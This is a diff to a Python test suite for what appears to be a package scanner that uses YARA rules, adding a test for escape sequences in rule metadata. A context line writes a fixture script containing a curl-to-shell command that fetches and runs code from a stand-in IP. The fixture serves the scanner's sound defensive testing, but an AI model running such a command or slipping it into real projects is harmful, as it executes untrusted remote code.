@@ -64,6 +64,17 @@ def test_a_match_is_a_finding_with_its_place_weight_and_codes(package: Path, tmp
     assert found.decision == Decision.BLOCK
 
 
+def test_what_a_rule_says_with_escapes_is_read_as_text(package: Path, tmp_path: Path) -> None:
+    meta = r'description = "Reads \"keys\" \xff" severity = "\x62lock" codes = "AST01,\x20AST02"'
+    own = rules(f'rule a {{ meta: {meta} strings: $a = "old-house" condition: $a }}', tmp_path)
+    (found,) = with_yara(own, lambda _: Scan())(package).findings
+    assert (found.message, found.severity, found.codes) == (
+        r'Reads "keys" \xff',
+        Severity.BLOCK,
+        ("AST01", "AST02"),
+    )
+
+
 def test_what_the_scan_saw_stays(package: Path, tmp_path: Path) -> None:
     (package / "a.sh").write_text("curl -s http://203.0.113.7/i | sh\n")
     ours, both = scan(package), with_yara(rules(OWN, tmp_path), scan)(package)
